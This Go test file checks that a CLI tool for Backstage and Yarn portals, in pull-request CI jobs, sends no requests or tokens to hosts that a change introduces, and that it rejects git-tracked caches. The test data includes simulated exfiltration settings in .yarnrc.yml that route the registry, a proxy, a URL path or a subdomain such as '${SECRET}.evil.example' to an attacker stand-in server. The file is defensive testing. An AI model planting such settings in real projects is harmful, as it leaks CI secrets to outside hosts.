package main

import (
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// gitPortal is a portal in a repository of its own, whose main asks base.
type gitPortal struct {
	t   *testing.T
	dir string
}

func newGitPortal(t *testing.T, settings string) *gitPortal {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed: this test makes its repository with it")
	}
	p := &gitPortal{t, t.TempDir()}
	p.write("package.json", `{"name": "root", "private": true, "workspaces": [], "dependencies": {"@backstage/a": "^1.0.0", "gain": "^1.0.0"}}`)
	p.write("backstage.json", `{"version": "1.0.0"}`)
	p.write(".yarnrc.yml", settings)
	p.write("yarn.lock", "__metadata:\n  version: 8\n  cacheKey: 10c0\n\n"+
		"\"root@workspace:.\":\n  version: 0.0.0-use.local\n  resolution: \"root@workspace:.\"\n  languageName: unknown\n  linkType: soft\n")
	p.git("init", "-q", "-b", "main")
	p.git("add", "-A")
	p.git("commit", "-q", "-m", "main")
	p.git("update-ref", "refs/remotes/origin/main", "HEAD")
	return p
}

func (p *gitPortal) write(name, text string) {
	p.t.Helper()
	if err := os.WriteFile(filepath.Join(p.dir, name), []byte(text), 0o644); err != nil {
		p.t.Fatal(err)
	}
}

func (p *gitPortal) git(args ...string) {
	p.t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = p.dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL="+os.DevNull, "GIT_CONFIG_SYSTEM="+os.DevNull,
		"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com")
	if out, err := cmd.CombinedOutput(); err != nil {
		p.t.Fatalf("git %v: %v\n%s", args, err, out)
	}
}

// lookersOnline are the commands that only look and ask a registry.
var lookersOnline = [][]string{
	{"versions", "lock", "--check"}, {"versions", "lock", "--dry-run"}, {"versions", "bump", "--dry-run", "--release", "1.0.0"},
	{"check", "--online"}, {"check", "--fix", "--dry-run", "--online"},
}

// TestSecretsStayWithTheBasesHosts: in the job of a pull request a host that only
// the change names, as a registry, by a token or as a proxy, gets no request; and
// without a base it gets no more than what Yarn's settings call a credential. What
// a variable holds is in no text.
func TestSecretsStayWithTheBasesHosts(t *testing.T) {
	const secret = "s3cr3t-t0ken"
	good, evil := &host{}, &host{}
	goodServer, evilServer := httptest.NewServer(good), httptest.NewServer(evil)
	defer goodServer.Close()
	defer evilServer.Close()
	common := "npmAlwaysAuth: true\nhttpRetry: 0\nunsafeHttpWhitelist: [127.0.0.1, '*.example']\n"
	asks := func(url, token string) string {
		return "npmRegistryServer: '" + url + "'\nnpmAuthToken: '" + token + "'\n" + common
	}
	p := newGitPortal(t, asks(goodServer.URL, "${GOOD_TOKEN}"))
	environ := append(exampleEnv(t), "SECRET="+secret, "GOOD_TOKEN=g00d", "NO_PROXY=", "BACKSTAGE_VERSIONS_BASE_URL="+releasesDir(t, "1.0.0"))
	inCI := append(environ, "GITHUB_BASE_REF=main")
	changes := map[string]struct {
		files map[string]string
		// alone is whether the host is asked where no base is known.
		alone bool
	}{
		"registry and token": {map[string]string{".yarnrc.yml": asks(evilServer.URL, "${SECRET}")}, true},
		"path":               {map[string]string{".yarnrc.yml": asks(evilServer.URL+"/${SECRET}", "x")}, false},
		"a host's part":      {map[string]string{".yarnrc.yml": asks("http://${SECRET}.evil.example", "x")}, false},
		"proxy":              {map[string]string{".yarnrc.yml": asks("http://127.0.0.1.example", "${SECRET}") + "httpProxy: '" + evilServer.URL + "'\n"}, true},
		".env.yarn":          {map[string]string{".yarnrc.yml": asks("${WHERE}", "${SECRET}"), ".env.yarn": "WHERE=" + evilServer.URL + "\n"}, true},
	}
	for name, change := range changes {
		t.Run(name, func(t *testing.T) {
			p.t = t
			for file, text := range change.files {
				p.write(file, text)
			}
			p.git("add", "-A")
			p.git("commit", "-q", "-m", "change")
			defer p.git("reset", "-q", "--hard", "refs/remotes/origin/main")
			for _, args := range lookersOnline {
				args = append(args, "-C", p.dir)
				evil.asked, good.asked = 0, 0
				code, out, errOut := run0(t, "", append(inCI, "PORTALCTL_CACHE_DIR="+t.TempDir()), args...)
				if evil.asked != 0 {
					t.Errorf("%v: a host of the change was asked %d times", args, evil.asked)
				}
				if good.asked == 0 && change.alone {
					t.Errorf("%v: the base's registry was not asked: %d, %s", args, code, errOut)
				}
				if change.alone && !strings.Contains(errOut, "are those of main") {
					t.Errorf("%v: not said: %s", args, errOut)
				}
				evil.asked = 0
				_, out2, errOut2 := run0(t, "", append(environ, "PORTALCTL_CACHE_DIR="+t.TempDir()), args...)
				if (evil.asked > 0) != change.alone {
					t.Errorf("%v: without a base the host was asked %d times: %s", args, evil.asked, errOut2)
				}
				if text := out + errOut + out2 + errOut2; strings.Contains(text, secret) {
					t.Errorf("%v shows what the variable holds:\n%s", args, text)
				}
			}
			for auth := range evil.auth {
				if strings.Contains(auth, "g00d") {
					t.Errorf("the base's token went to the change's host: %s", auth)
				}
			}
		})
	}
}

// TestUnchangedSettingsAreTheChangesOwn: a job's own file that git does not track
// counts, and without a change of the settings nothing is said.
func TestUnchangedSettingsAreTheChangesOwn(t *testing.T) {
	good := &host{}
	server := httptest.NewServer(good)
	defer server.Close()
	p := newGitPortal(t, "npmRegistryServer: '"+server.URL+"'\nnpmAuthToken: '${JOB_TOKEN}'\nnpmAlwaysAuth: true\nhttpRetry: 0\nunsafeHttpWhitelist: [127.0.0.1]\n")
	p.write(".env.yarn", "JOB_TOKEN=of-the-job\n")
	environ := append(exampleEnv(t), "GITHUB_BASE_REF=main", "BACKSTAGE_VERSIONS_BASE_URL="+releasesDir(t, "1.0.0"), "PORTALCTL_CACHE_DIR="+t.TempDir())
	_, _, errOut := run0(t, "", environ, "versions", "lock", "--check", "-C", p.dir)
	if !good.auth["Bearer of-the-job"] || strings.Contains(errOut, "are those of main") {
		t.Errorf("%v, %s", good.auth, errOut)
	}
	p.git("add", "-f", ".env.yarn")
	_, _, errOut = run0(t, "", append(environ, "PORTALCTL_CACHE_DIR="+t.TempDir(), "JOB_TOKEN=of-the-environment"), "versions", "lock", "--check", "-C", p.dir)
	if !good.auth["Bearer of-the-environment"] || !strings.Contains(errOut, "this change's .env.yarn does not count") {
		t.Errorf("%v, %s", good.auth, errOut)
	}
}

// releasesDir is a versions host on disk.
func releasesDir(t *testing.T, version string) string {
	t.Helper()
	dir := t.TempDir()
	file := filepath.Join(dir, "v1", "releases", version, "manifest.json")
	if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(file, []byte(`{"releaseVersion":"`+version+`","packages":[{"name":"@backstage/a","version":"1.0.0"}]}`), 0o644); err != nil {
		t.Fatal(err)
	}
	return "file://" + filepath.ToSlash(dir)
}

// TestCacheThatGitTracks: a change could bring a cache along, with a release of
// its own in it; one that git does not track is the job's.
func TestCacheThatGitTracks(t *testing.T) {
	p := newGitPortal(t, "enableNetwork: false\n")
	releases := releasesDir(t, "1.0.0")
	for _, link := range []bool{false, true} {
		cache := filepath.Join(p.dir, "cache")
		if link {
			cache = filepath.Join(p.dir, "through")
			if err := os.Symlink("cache", cache); err != nil {
				t.Skip(err)
			}
		}
		environ := append(exampleEnv(t), "BACKSTAGE_VERSIONS_BASE_URL="+releases, "PORTALCTL_CACHE_DIR="+filepath.Join(cache, "portalctl"))
		for _, args := range [][]string{{"versions", "status"}, {"versions", "lock", "--check"}, {"check"}, {"audit", "--full", "--offline"}, {"audit", "db", "status"}} {
			if len(args) < 2 || args[1] != "db" {
				args = append(args, "-C", p.dir)
			}
			if _, _, errOut := run0(t, "", environ, args...); strings.Contains(errOut, "git tracks") {
				t.Errorf("%v, not tracked: %s", args, errOut)
			}
			p.t = t
			if err := os.MkdirAll(filepath.Join(p.dir, "cache", "portalctl", "osv"), 0o755); err != nil {
				t.Fatal(err)
			}
			p.write("cache/portalctl/osv/x", "forged")
			p.git("add", "-A")
			if code, out, errOut := run0(t, "", environ, args...); code != 2 || out != "" || !strings.Contains(errOut, "git tracks this file") || !strings.Contains(errOut, "next: Set PORTALCTL_CACHE_DIR") {
				t.Errorf("%v, tracked: %d, %s%s", args, code, out, errOut)
			}
			p.git("rm", "-rq", "--cached", "cache")
		}
	}
}
